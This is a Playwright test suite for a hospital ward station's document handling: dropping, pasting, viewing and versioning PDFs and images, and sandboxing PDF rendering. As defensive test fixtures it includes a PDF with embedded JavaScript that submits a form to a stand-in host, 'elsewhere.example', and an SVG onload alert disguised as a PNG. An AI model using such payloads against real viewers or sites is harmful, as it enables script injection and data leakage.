import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Frame, Locator, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, openWindow, type StationWindow } from '../support/browser.ts'
import { COLLEAGUE, type FrontDesk, openFrontDesk } from '../support/front-desk.ts'
import { type Hospital, NURSE, openHospital } from '../support/hospital.ts'
import { aPdf } from '../support/pdf.ts'
import { freePort, type StationProcess, startStationProcess, temporaryFolder } from '../support/processes.ts'
import { aPng } from '../support/scan.ts'
import { languagesOf } from './look.ts'
import { signIn } from './nurse.ts'
import { type Language, type Words, wordsIn } from './words.ts'

/*
 * Documents as a nurse handles them at a ward PC whose network is down: dropped, pasted, chosen; looked at page by page;
 * replaced by a better scan. And what a file that was made to harm can do: nothing. Pictures go to SIJIL_TEST_PICTURES.
 */

const pictures = process.env.SIJIL_TEST_PICTURES
if (pictures) mkdirSync(pictures, { recursive: true })

const NAME = 'WARD3B-09'
const profile = temporaryFolder(NAME)
const HARM = "app.alert(1); fetch('/'); this.submitForm('https://elsewhere.example/')"

interface TestFile {
  readonly name: string
  readonly type: string
  readonly bytes: Buffer
}

const consent: TestFile = {
  name: 'consent.pdf',
  type: 'application/pdf',
  bytes: aPdf({ pages: ['0.8 0.2 0.2', '0.2 0.6 0.3', '0.2 0.3 0.8'] }),
}
const wound: TestFile = { name: 'IMG_2041.png', type: 'image/png', bytes: aPng(1200, 900) }
const locked: TestFile = {
  name: 'lab result.pdf',
  type: 'application/pdf',
  bytes: aPdf({ trailer: '/Encrypt << /V 2 >>' }),
}
const drawing: TestFile = {
  name: 'scan.png',
  type: 'image/png',
  bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
}

let hospital: Hospital
let browser: Browser
let station: StationProcess | undefined
let port: number
let colleague: FrontDesk
const visits = new Map<Language, { patientId: string; visitId: string }>()

async function admit(language: Language): Promise<void> {
  const patient = await colleague.post('/patients', {
    full_name: language === 'en' ? 'Samira Abdelrahman Elgohary' : 'سميرة عبد الرحمن الجوهري',
    date_of_birth: '1968-03-14',
    gender: 'female',
    mobile_number: language === 'en' ? '01012345678' : '01012345679',
  })
  const visit = await colleague.post('/visits', {
    patient_id: patient.id,
    visit_type: 'inpatient',
    ward: '3B',
    studies: [],
  })
  visits.set(language, { patientId: patient.id, visitId: visit.id })
}

/** A file that came in by another way than this station's own look at it. */
const attachByRest = (visitId: string, { bytes, name, type }: TestFile): Promise<void> =>
  colleague.attach(visitId, 'report', new File([new Uint8Array(bytes)], name, { type }))

beforeAll(async () => {
  hospital = await openHospital(null)
  await hospital.asAdmin('/api/v1/admin/users', { method: 'POST', body: COLLEAGUE })
  colleague = await openFrontDesk(hospital, COLLEAGUE)
  await admit('en')
  await admit('ar')
  browser = await launchBrowser()
  port = await freePort()
})

afterAll(async () => {
  await browser?.close()
  await station?.stop()
  await hospital?.close()
  profile.remove()
})

/** The program started again, with a window at the visit of that language's patient. */
async function openAtVisit(language: Language): Promise<StationWindow> {
  await station?.stop()
  const enrolment_code = station === undefined ? await hospital.enrolmentCode() : undefined
  station = await startStationProcess({
    profile: profile.path,
    server_url: hospital.url,
    name: NAME,
    port,
    ...(enrolment_code === undefined ? {} : { enrolment_code }),
  })
  const window = await openWindow(browser, station.launch_url, language)
  await signIn(window.page, wordsIn(language), NURSE.username, NURSE.password)
  const { patientId, visitId } = visits.get(language) ?? { patientId: '', visitId: '' }
  await window.page.evaluate((hash) => {
    location.hash = hash
  }, `#/patients/${patientId}?visit=${visitId}`)
  return window
}

async function hand(page: Page, event: 'drop' | 'paste', files: readonly TestFile[]): Promise<void> {
  const plain = files.map(({ name, type, bytes }) => ({ name, type, base64: bytes.toString('base64') }))
  await page.evaluate(
    ([kind, list]) => {
      const data = new DataTransfer()
      for (const { name, type, base64 } of list) {
        const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0))
        data.items.add(new File([bytes], name, { type }))
      }
      const about = { bubbles: true, cancelable: true }
      if (kind === 'paste') {
        document.body.dispatchEvent(new ClipboardEvent('paste', { ...about, clipboardData: data }))
        return
      }
      document.body.dispatchEvent(new DragEvent('dragover', { ...about, dataTransfer: data }))
      document.body.dispatchEvent(new DragEvent('drop', { ...about, dataTransfer: data }))
    },
    [event, plain] as const,
  )
}

/** The frame in which a PDF is painted. */
async function pdfFrame(page: Page): Promise<Frame> {
  const find = (): Frame | undefined => page.frames().find((frame) => frame.url().endsWith('/pdf-frame.html'))
  await expect.poll(() => find() !== undefined).toBe(true)
  const found = find()
  if (found === undefined) throw new Error('no PDF frame')
  return found
}

/** Size of what is painted, and the colour of its block. */
async function painted(page: Page): Promise<{ width: number; height: number; colour: string } | null> {
  const frame = await pdfFrame(page)
  return frame.evaluate(() => {
    const canvas = document.querySelector('canvas')
    const pen = canvas?.getContext('2d')
    if (canvas === null || pen === null || pen === undefined) return null
    const seen = new Map<string, number>()
    const { data } = pen.getImageData(0, 0, canvas.width, canvas.height)
    for (let at = 0; at < data.length; at += 400) {
      const [red = 0, green = 0, blue = 0] = data.slice(at, at + 3)
      const name =
        red > green + 60 ? 'red' : green > red + 60 && green > blue ? 'green' : blue > red + 60 ? 'blue' : ''
      if (name !== '') seen.set(name, (seen.get(name) ?? 0) + 1)
    }
    const colour = [...seen].toSorted((a, b) => b[1] - a[1])[0]?.[0] ?? ''
    const { width, height } = canvas.getBoundingClientRect()
    return { width: Math.round(width), height: Math.round(height), colour }
  })
}

describe.each(languagesOf('ar'))('a nurse at a ward PC, in %s', (language) => {
  const w: Words = wordsIn(language)
  let window: StationWindow
  let page: Page
  let card: Locator
  const named = (key: string, name: string): string => w(key).replace('{{name}}', name)
  const picture = async (name: string): Promise<void> => {
    if (pictures) await page.screenshot({ path: join(pictures, `g-${name}.${language}.png`) })
  }
  const row = (name: string): Locator => card.getByRole('button', { name: named('documents.view', name) })
  const viewer = (name: string): Locator =>
    page.getByRole('region', { name: named('documents.viewer', name) })
  const attach = (): Promise<void> =>
    card.getByRole('button', { name: w('documents.attach'), exact: true }).click()

  beforeAll(async () => {
    window = await openAtVisit(language)
    page = window.page
    card = page.getByRole('region', { name: w('documents.title'), exact: true })
    await card.waitFor()
    await hospital.stop()
  })
  afterAll(() => window?.close())
  afterEach(async ({ task }) => {
    if (task.result?.state === 'fail') await picture(`failed-${task.name.slice(0, 30).replaceAll(' ', '-')}`)
  })

  it('drops several files anywhere on the page; each says how it is, and one that is refused holds up no other', async () => {
    await hand(page, 'drop', [consent, wound, drawing, locked])
    const queue = card.getByRole('list', { name: w('documents.queue') })
    await expect.poll(() => queue.getByRole('listitem').count()).toBe(4)
    await queue.getByText(w('documents.refused_kind')).waitFor()
    const typeOf = (name: string): Locator =>
      queue.getByRole('combobox', { name: named('documents.type_of', name) })
    expect(await typeOf(consent.name).inputValue()).toBe('scanned_form')
    expect(await typeOf(wound.name).inputValue()).toBe('image')
    expect(await typeOf(locked.name).inputValue()).toBe('lab_result')
    await typeOf(consent.name).selectOption('report')
    await picture('queue')
    await attach()
    await queue.getByText(w('documents.refused_password')).waitFor()
    await row(consent.name).waitFor()
    await row(wound.name).waitFor()
    await picture('refused')
    for (const { name } of [drawing, locked])
      await queue.getByRole('button', { name: named('documents.remove_file', name) }).click()
    await queue.waitFor({ state: 'hidden' })
    expect(await card.getByText(w('receipt.on_this_pc')).count()).toBe(2)
  })

  it('pastes a picture, which gets a name that tells it from others', async () => {
    await hand(page, 'paste', [{ ...wound, name: 'image.png', bytes: aPng(300, 400) }])
    await card.getByText(/^Pasted \d{4}-\d{2}-\d{2} \d{2}\.\d{2}\.\d{2}\.png$/).waitFor()
    await attach()
    const pasted = card.getByRole('list', { name: w('documents.title') }).getByRole('listitem')
    await expect.poll(() => pasted.count()).toBe(3)
  })

  it('sees a small picture of each, which is written nowhere', async () => {
    await expect.poll(() => card.locator('[data-drawn="true"]').count(), { timeout: 20_000 }).toBe(3)
    const stored = await page.evaluate(async () => [
      ...Object.keys(localStorage),
      ...Object.keys(sessionStorage),
      ...(await indexedDB.databases()).map(({ name }) => name ?? ''),
      ...(await caches.keys()),
    ])
    expect(stored.filter((name) => !/^sijil\.(language|color|scheme)/.test(name))).toEqual([])
    await picture('thumbnails')
  })

  it('reads a PDF page by page, larger, turned and fitted, by mouse and by keys alone', async () => {
    await row(consent.name).click()
    const sheet = viewer(consent.name)
    await sheet.waitFor()
    await expect.poll(async () => (await painted(page))?.colour, { timeout: 20_000 }).toBe('red')
    const fitted = await painted(page)
    await picture('pdf')
    await sheet.getByRole('button', { name: w('documents.next_page') }).click()
    await expect.poll(async () => (await painted(page))?.colour).toBe('green')
    await page.keyboard.press('PageDown')
    await expect.poll(async () => (await painted(page))?.colour).toBe('blue')
    await page.keyboard.press('Home')
    await expect.poll(async () => (await painted(page))?.colour).toBe('red')
    await sheet.getByRole('button', { name: w('documents.larger') }).click()
    await page.keyboard.press('+')
    const half = (fitted?.width ?? 0) * 1.5
    await expect.poll(async () => Math.abs(((await painted(page))?.width ?? 0) - half)).toBeLessThan(3)
    await page.keyboard.press('0')
    await expect.poll(async () => (await painted(page))?.width).toBe(fitted?.width)
    await page.keyboard.press('0')
    await expect.poll(async () => ((await painted(page))?.height ?? 9999) < 900).toBe(true)
    await page.keyboard.press('r')
    await expect
      .poll(async () => {
        const now = await painted(page)
        return now !== null && now.width > now.height
      })
      .toBe(true)
    await picture('pdf-turned')
    await page.keyboard.press('Escape')
    await sheet.waitFor({ state: 'hidden' })
  })

  it('looks at a picture: larger, dragged about, turned', async () => {
    await row(wound.name).click()
    const sheet = viewer(wound.name)
    const image = sheet.getByRole('img', { name: wound.name })
    await image.waitFor()
    for (let i = 0; i < 4; i += 1) await page.keyboard.press('+')
    const scroll = sheet.locator('.viewer-scroll')
    await expect
      .poll(() => scroll.evaluate((element) => element.scrollWidth > element.clientWidth))
      .toBe(true)
    const box = await scroll.boundingBox()
    if (box === null) throw new Error('no picture')
    await page.mouse.move(box.x + 300, box.y + 300)
    await page.mouse.down()
    await page.mouse.move(box.x + 100, box.y + 200, { steps: 4 })
    await page.mouse.up()
    expect(await scroll.evaluate(({ scrollTop }) => scrollTop)).toBeGreaterThan(50)
    expect(Math.abs(await scroll.evaluate(({ scrollLeft }) => scrollLeft))).toBeGreaterThan(50)
    await sheet.getByRole('button', { name: w('documents.rotate') }).click()
    expect(await image.evaluate((element) => (element as HTMLElement).style.transform)).toContain('90deg')
    await page.keyboard.press('0')
    await picture('image-turned')
    await page.keyboard.press('Escape')
    await sheet.waitFor({ state: 'hidden' })
  })

  it('attaches a new version and still reads the old one, which says that it is old', async () => {
    await row(consent.name).click()
    await page.getByRole('button', { name: w('documents.new_version') }).click()
    const form = card.getByRole('form', { name: w('documents.new_version') })
    const signed = {
      name: 'consent signed.pdf',
      mimeType: 'application/pdf',
      buffer: aPdf({ pages: ['0.2 0.6 0.3'] }),
    }
    await form.getByLabel(w('documents.choose')).setInputFiles(signed)
    await picture('new-version')
    await form.getByRole('button', { name: w('documents.attach'), exact: true }).click()
    await row(signed.name).waitFor()
    expect(await row(consent.name).count()).toBe(0)
    await row(signed.name).click()
    await expect.poll(async () => (await painted(page))?.colour, { timeout: 20_000 }).toBe('green')
    await page.getByRole('combobox', { name: w('documents.versions') }).selectOption({ index: 1 })
    await page.getByText(w('documents.show_now')).waitFor()
    await expect.poll(async () => (await painted(page))?.colour, { timeout: 20_000 }).toBe('red')
    await picture('old-version')
    await page.keyboard.press('Escape')
  })

  it('is not let into practice from the locked screen while chosen files are not attached', async () => {
    const name = 'referral letter.pdf'
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await hand(page, 'drop', [{ ...consent, name }])
    const queue = card.getByRole('list', { name: w('documents.queue') })
    await queue.getByText(name).waitFor()
    await page.keyboard.press('Control+l')
    const form = page.getByRole('region', { name: w('session.form') })
    await form.getByLabel(w('session.password'), { exact: true }).fill(NURSE.password)
    await form.getByRole('button', { name: w('practice.sign_in') }).click()
    await form.getByText(w('practice.unattached')).waitFor()
    await picture('not-practised')
    // The password stays: she unlocks and finds her file.
    await form.getByRole('button', { name: w('session.unlock') }).click()
    await queue.getByText(name).waitFor()
    await queue.getByRole('button', { name: named('documents.remove_file', name) }).click()
    await queue.waitFor({ state: 'hidden' })
  })

  it('reads PDFs in a frame that has no origin, no network, no storage and no way to her page', async () => {
    await row('consent signed.pdf').click()
    await expect.poll(async () => (await painted(page))?.colour, { timeout: 20_000 }).toBe('green')
    const element = page.locator('.viewer iframe')
    expect(await element.getAttribute('sandbox')).toBe('allow-scripts')
    expect(await element.evaluate((iframe) => (iframe as HTMLIFrameElement).inert)).toBe(true)
    const frame = await pdfFrame(page)
    const tried = await frame.evaluate(async () => {
      const outcome = async (what: () => unknown): Promise<string> => {
        try {
          await what()
          return 'done'
        } catch {
          return 'refused'
        }
      }
      return {
        origin: self.origin,
        storage: await outcome(() => localStorage.length),
        cookie: await outcome(() => document.cookie),
        parent: await outcome(() => self.parent.document.title),
        network: await outcome(() => fetch('/index.html')),
        worker: await outcome(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
        // From a timer: what a test asks directly is let through by the browser's own tools.
        code: await new Promise<string>((resolve) => {
          setTimeout(() => void outcome(() => new Function('return 1')()).then(resolve))
        }),
        picture: await new Promise<string>((resolve) => {
          const image = new Image()
          image.onload = () => resolve('done')
          image.onerror = () => resolve('refused')
          image.src = '/icon.svg'
        }),
      }
    })
    expect(tried).toEqual({
      origin: 'null',
      storage: 'refused',
      cookie: 'refused',
      parent: 'refused',
      network: 'refused',
      worker: 'refused',
      code: 'refused',
      picture: 'refused',
    })
    await page.keyboard.press('Escape')
  })
})

describe('a PDF that was made to harm', () => {
  const w = wordsIn('en')
  const objects = [`<< /S /JavaScript /JS (${HARM.replace(/[()\\]/g, '\\$&')}) >>`]
  const harm = {
    name: 'harm.pdf',
    type: 'application/pdf',
    bytes: aPdf({ catalog: '/OpenAction 50 0 R', objects }),
  }

  it('is refused by the server as by the station', async () => {
    await hospital.start()
    const { visitId } = visits.get('en') ?? { visitId: '' }
    await expect(attachByRest(visitId, harm)).rejects.toThrow(/415/)
  })

  it('can do nothing where no inspection saw it', async () => {
    const { patientId, visitId } = visits.get('en') ?? { patientId: '', visitId: '' }
    await attachByRest(visitId, { ...harm, name: 'letter.pdf', bytes: aPdf({ pages: ['0.8 0.2 0.2'] }) })
    const { page, close } = await openAtVisit('en')
    const asked: string[] = []
    const dialogs: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    // The frame is handed the harmful file in the place of the good one: that one is red, this one is blue.
    await page.evaluate(
      (bytes) => {
        const post = MessagePort.prototype.postMessage
        MessagePort.prototype.postMessage = function (message: unknown): void {
          const kind = (message as { readonly kind?: unknown } | null)?.kind
          post.call(this, kind === 'open' ? { kind, bytes: new Uint8Array(bytes).buffer } : message)
        }
      },
      [...harm.bytes],
    )
    const row = page.getByRole('button', { name: w('documents.view').replace('{{name}}', 'letter.pdf') })
    await row.waitFor({ timeout: 40_000 })
    await expect
      .poll(() => page.getByText(w('documents.awaited'), { exact: true }).count(), { timeout: 40_000 })
      .toBe(0)
    await row.click()
    await expect.poll(async () => (await painted(page))?.colour, { timeout: 20_000 }).toBe('blue')
    await page.waitForTimeout(500)
    expect(dialogs).toEqual([])
    expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([])
    expect(page.url()).toContain(`#/patients/${patientId}`)
    await close()
  })
})
